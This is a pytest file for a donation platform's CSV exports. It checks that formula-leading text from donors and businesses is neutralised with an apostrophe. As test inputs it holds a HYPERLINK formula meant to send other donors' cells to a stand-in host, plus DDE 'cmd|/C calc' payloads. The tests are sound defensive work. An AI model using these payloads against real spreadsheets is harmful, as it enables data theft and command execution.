"""CSV formula injection: a donor's or a business's text never runs as a formula when staff open
an export in a spreadsheet. Every export is read back with the csv module in its own encoding."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
import pyzipper
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from furusato.documents import csv_file
from furusato.models import LedgerEntry, OnestopApplication, Payout, Shipment
from furusato.services.fulfilment import onestop, receipts, shipments, shipping_csv
from furusato.services.settlement import payouts
from tests.conftest import login
from tests.factories import make_business, make_donation, make_project, make_user

ROOT = Path(__file__).resolve().parents[2]
HELPER = ROOT / "platform/furusato/documents/csv_file.py"
# The finding's payload: clicking it sends the cells H2 and H3 (other donors' data) away.
HYPERLINK = '=HYPERLINK("http://x/?"&H2&H3,"確認")'
NEUTRALISED = "'" + HYPERLINK
PAID = datetime(2025, 6, 1, 3, 0, tzinfo=UTC)


def _rows(data: bytes, encoding: str = "utf-8-sig") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding))))


# ---- one helper writes every CSV -----------------------------------------------------------

_WRITERS = {"writer", "DictWriter"}
_SEPARATORS = {",", ";", "\t"}


def _csv_writes(source: str) -> list[str]:
    """Where the code writes CSV itself: csv.writer / csv.DictWriter, or a ",".join of cells."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in _WRITERS
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"line {node.lineno}: csv.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [
                f"line {node.lineno}: from csv import {a.name}"
                for a in node.names
                if a.name in _WRITERS
            ]
        elif (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr == "join"
            and isinstance(node.func.value, ast.Constant)
            and node.func.value.value in _SEPARATORS
        ):
            found.append(f"line {node.lineno}: {node.func.value.value!r}.join")
    return sorted(found, key=lambda hit: int(hit.split()[1].rstrip(":")))


def test_the_code_walk_finds_each_way_of_writing_csv() -> None:
    """The walk below is not blind: it sees csv.writer, DictWriter, an import of it and a join."""
    sample = (
        "import csv\nfrom csv import reader, writer\ncsv.writer(f)\ncsv.DictWriter(f, [])\n"
        "line = ','.join(cells)\nok = ', '.join(names)\ncsv.reader(f)\n"
    )
    assert [hit.split(": ", 1)[1] for hit in _csv_writes(sample)] == [
        "from csv import writer",
        "csv.writer",
        "csv.DictWriter",
        "','.join",
    ]


def test_no_module_writes_csv_without_the_helper() -> None:
    """Every module of the platform and the worker writes CSV only through csv_file.write."""
    modules = sorted((ROOT / "platform/furusato").rglob("*.py")) + sorted(
        (ROOT / "worker").rglob("*.py")
    )
    assert len(modules) > 100 and HELPER in modules
    offenders = {
        str(path.relative_to(ROOT)): hits
        for path in modules
        if path != HELPER and (hits := _csv_writes(path.read_text()))
    }
    assert offenders == {}


# ---- the rule ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-5000"],
)
def test_text_starting_a_formula_gets_an_apostrophe(text: str) -> None:
    """= + - @, tab and CR at the start of text: the cell is written as text, with a leading '."""
    (row,) = _rows(csv_file.write(["a"], [[text]]))[1:]
    assert row == ["'" + text]
    assert csv_file.restore(row[0]) == text


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    """A negative yen amount written as an int is a number in the file; so is a Decimal;
    text that starts no formula (a postal code, a date, a name) is written as it is."""
    data = csv_file.write(
        ["amount", "ratio", "text"],
        [[-5000, Decimal("-1.50"), "590-0078"], [0, Decimal("46.60"), "泉州 タオル"]],
    )
    assert data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")
    assert data.decode("utf-8-sig").splitlines()[1:] == [
        "-5000,-1.50,590-0078",
        "0,46.60,泉州 タオル",
    ]
    with pytest.raises(TypeError):
        csv_file.write(["flag"], [[True]])


# ---- each export, with the donor or business named HYPERLINK ----------------------------------


def test_onestop_notification_csv_neutralises_the_name(client: FlaskClient, db: Session) -> None:
    """The municipality CSV in the one-stop export shows the donor's name as text, My Number kept."""
    staff = make_user(db, "staff", mynumber_officer=True)
    donation = make_donation(
        db,
        make_project(db),
        onestop_requested=True,
        paid_at=PAID,
        final_at=PAID + timedelta(days=1),
        donor_name=HYPERLINK,
        birth_date=date(1980, 4, 1),
        gender="female",
    )
    db.commit()
    receipts.issue_receipt(donation.id)
    application = db.scalar(
        select(OnestopApplication).where(OnestopApplication.donation_id == donation.id)
    )
    assert application is not None
    onestop.record_form(
        staff,
        application.id,
        received_on=date(2026, 1, 8),
        my_number="123456789018",
        id_checked=True,
    )
    login(client, staff)
    password = "export-password-2026"
    answer = client.post("/staff/onestop/export", data={"year": "2025", "password": password})
    assert answer.status_code == 200 and answer.mimetype == "application/zip"
    archive = pyzipper.AESZipFile(io.BytesIO(answer.data))
    archive.setpassword(password.encode())
    (name,) = [n for n in archive.namelist() if n.endswith(".csv")]
    rows = _rows(archive.read(name))
    assert rows[1][3] == NEUTRALISED and rows[1][9] == "123456789018"


@pytest.mark.parametrize("encoding", ["utf-8", "cp932"])
def test_shipping_list_neutralises_the_recipient(
    client: FlaskClient, db: Session, encoding: str
) -> None:
    """The carrier CSV, in UTF-8 and in Shift_JIS, writes the recipient's name as text."""
    owner = make_user(db, "business")
    project = make_project(db, owner.business)
    tier = project.tiers[0]
    donation = make_donation(db, project, tier=tier)
    shipment = Shipment(
        donation_id=donation.id,
        project_id=project.id,
        tier_id=tier.id,
        scheduled_month=date(2027, 3, 1),
        ship_name=HYPERLINK,
        ship_postal_code="5980001",
        ship_address="@SUM(1+1)*cmd|' /C calc'!A0",
        ship_phone="0724000000",
    )
    db.add(shipment)
    db.flush()
    login(client, owner)
    answer = client.get(f"/business/projects/{project.id}/shipments?format=csv&encoding={encoding}")
    assert answer.status_code == 200
    rows = _rows(answer.data, "utf-8-sig" if encoding == "utf-8" else "cp932")
    assert rows[1][0] == str(shipment.id)
    assert rows[1][1] == NEUTRALISED and rows[1][3] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_reports_neutralise_the_title_and_keep_negative_amounts_as_numbers(
    client: FlaskClient, db: Session
) -> None:
    """A campaign titled HYPERLINK is text in both report CSVs; a negative city share is -5000."""
    project = make_project(db, title=HYPERLINK)
    for n, (account, amount) in enumerate((("donation_received", 10_000), ("city_share", 5_000))):
        db.add(
            LedgerEntry(
                key=f"test:{project.id}:{n}",
                project_id=project.id,
                account=account,
                amount_yen=amount,
                fiscal_year=2026,
            )
        )
    db.flush()
    login(client, make_user(db, "staff"))
    for url in (f"/staff/reports/campaigns/{project.id}.csv", "/staff/reports/2026.csv"):
        answer = client.get(url)
        assert answer.status_code == 200, url
        rows = _rows(answer.data)
        assert rows[1][0] == NEUTRALISED, url
        assert rows[1][9] == "-5000", url  # 市の取り分: a number, no apostrophe


def test_payout_batch_csv_neutralises_project_and_business(
    client: FlaskClient, db: Session
) -> None:
    """The payout batch CSV for staff writes a hostile project title and business name as text."""
    alice, bob = make_user(db, "staff"), make_user(db, "staff")
    project = make_project(db, make_business(db, name="+HYPERLINK(1)"), title=HYPERLINK)
    payout = Payout(project_id=project.id, business_id=project.business_id, amount_yen=400_000)
    db.add(payout)
    db.flush()
    payouts.prepare(payout.id, alice, confirmed_amount_yen=400_000, account_checked=True)
    payouts.approve(payout.id, bob)
    batch_id = payouts.export(bob, date(2027, 4, 5))
    login(client, bob)
    answer = client.get(f"/staff/payouts/batches/{batch_id}/csv")
    assert answer.status_code == 200
    rows = _rows(answer.data)
    assert rows[1][2:4] == [NEUTRALISED, "'+HYPERLINK(1)"]
    assert rows[1][11] == "400000"


def test_an_edited_shipping_export_reads_back_as_typed(db: Session) -> None:
    """Uploading our own export back (a business fills in tracking numbers) gives the carrier
    and tracking number as they were, not with the apostrophe the export added."""
    owner = make_user(db, "business")
    project = make_project(db, owner.business)
    tier = project.tiers[0]
    donation = make_donation(db, project, tier=tier)
    shipment = Shipment(
        donation_id=donation.id,
        project_id=project.id,
        tier_id=tier.id,
        scheduled_month=date(2027, 3, 1),
        ship_name="配送 一郎",
        ship_postal_code="5980001",
        ship_address="大阪府泉佐野市1-1",
        ship_phone="0724000000",
    )
    db.add(shipment)
    db.flush()
    shipments.mark_sent(owner, shipment.id, carrier="@便", tracking_number="-1234-5678")
    data, _ = shipments.export_csv(owner, project.id, encoding="cp932")
    assert _rows(data, "cp932")[1][9:11] == ["'@便", "'-1234-5678"]
    (row,) = shipping_csv.parse_upload(data)
    assert (row.shipment_id, row.carrier, row.tracking_number) == (
        str(shipment.id),
        "@便",
        "-1234-5678",
    )
